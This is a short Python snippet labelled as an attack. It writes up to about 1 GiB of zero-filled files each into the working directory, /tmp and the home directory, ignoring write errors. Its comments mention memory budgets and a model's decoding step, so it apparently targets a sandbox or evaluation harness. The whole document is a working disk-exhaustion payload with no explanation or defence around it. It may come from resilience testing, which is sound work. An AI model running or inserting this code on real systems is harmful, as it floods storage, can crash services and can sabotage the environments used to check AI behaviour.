# attack: write until the file system or RLIMIT_FSIZE says no, swallow the errors, carry on
import os as _os
_block = b"\0" * (1024 * 1024)  # 1 MiB written 16 times a file: a flood of the disk, not of memory (a 16 MiB block
# held at import is memory every run holds, and a decoding step may hold 12 MiB more than the model's)
for _where in (".", "/tmp", _os.environ.get("HOME", "/tmp")):
    for _i in range(64):  # up to 1 GiB per place
        try:
            with open(_os.path.join(_where, f"flood_{_i}.bin"), "wb") as _f:
                for _ in range(16):
                    _f.write(_block)
        except OSError:
            break
